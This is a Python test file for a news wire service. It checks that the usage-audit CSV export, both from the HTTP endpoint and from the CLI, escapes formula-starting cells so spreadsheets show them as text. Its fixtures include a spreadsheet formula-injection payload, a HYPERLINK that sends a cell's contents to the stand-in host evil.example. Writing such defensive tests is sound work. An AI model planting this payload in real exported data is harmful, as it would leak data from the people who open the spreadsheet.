"""The usage audit is opened in spreadsheets: no cell of it may be a formula.

Item URIs come from whoever filed the story, so a story filed as ``=HYPERLINK(...)`` would
run in the accountant's spreadsheet. Every text cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written with a leading ``'`` (OWASP's advice), which
spreadsheets show as text; everything else is written as it was.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest
from sqlalchemy import func, select

from newswire.model import utcnow
from newswire.store import accounts
from newswire.store.engine import read_tx
from newswire.store.tables import usage
from newswire.store.tokens import create_token
from newswire.store.usage import UsageRecorder

from conftest import LiveServer
from factories import as_bytes, ninjs_story

NEWSWIRE = str(Path(sys.executable).with_name("newswire"))
FILED = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(1)"]
UNFILED = ["\tTAB", "\rCR"]  # ingest strips the whitespace: recorded directly, as a channel might
FORMULAS = FILED + UNFILED
PLAIN = "urn:newsml:example.com:2026:plain-story"


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def audited_reads(live: LiveServer) -> None:
    """A subscriber reads one story filed under each hostile URI, and one plain story."""
    for uri in [*FILED, PLAIN]:
        assert live.wire.ingest(as_bytes(ninjs_story("en", uri=uri))).created
    accounts.create_product(live.wire.engine, "all", {})
    sub = accounts.create_subscriber(live.wire.engine, "-accountant", ["all"])
    key = create_token(live.wire.engine, "subscriber", subscriber_id=sub.id)
    feed = httpx.get(live.url + "/v1/feed", params={"after": "0", "limit": "100"},
                     headers={"Authorization": f"Bearer {key}"})
    assert feed.status_code == 200 and len(feed.json()["events"]) == len(FILED) + 1
    recorder = UsageRecorder(live.wire.engine)
    recorder.record(sub.id, None, [(uri, 1) for uri in UNFILED], "feed")
    recorder.flush()
    # the server writes the feed's reads in batches every half second: wait for them, or a
    # loaded machine reads the report before they are in it (seen on PostgreSQL)
    deadline = time.monotonic() + 10
    while True:
        with read_tx(live.wire.engine) as conn:
            rows = conn.execute(select(func.count()).select_from(usage).where(usage.c.subscriber_id == sub.id)).scalar()
        if rows == len(FORMULAS) + 1 or time.monotonic() > deadline:
            return
        time.sleep(0.1)


def test_usage_csv_over_http_neutralises_formula_cells(live: LiveServer) -> None:
    audited_reads(live)
    admin = create_token(live.wire.engine, "admin")
    resp = httpx.get(live.url + "/v1/admin/usage", params={"month": utcnow().strftime("%Y-%m")},
                     headers={"Authorization": f"Bearer {admin}"})
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    rows = read_back(resp.text)
    assert sorted(row["uri"] for row in rows) == sorted(["'" + uri for uri in FORMULAS] + [PLAIN])
    assert {row["subscriber"] for row in rows} == {"'-accountant"}
    assert {row["channel"] for row in rows} == {"feed"} and {row["version"] for row in rows} == {"1"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_usage_report_command_neutralises_formula_cells(live: LiveServer, tmp_path: Path) -> None:
    if live.wire.engine.dialect.name != "sqlite":
        pytest.skip("the command runs the same report_csv as the endpoint; SQLite once is enough")
    audited_reads(live)
    live.server.should_exit = True  # flushes the usage buffer at shutdown
    live.thread.join(10)
    out = tmp_path / "usage.csv"
    env = {**os.environ, "NEWSWIRE_DATABASE_URL": str(live.wire.engine.url)}
    subprocess.run([NEWSWIRE, "usage", "report", "--month", utcnow().strftime("%Y-%m"), "-o", str(out)],
                   env=env, check=True, capture_output=True, timeout=120)
    rows = read_back(out.read_bytes().decode("utf-8"))  # keep a lone CR as written
    assert sorted(row["uri"] for row in rows) == sorted(["'" + uri for uri in FORMULAS] + [PLAIN])
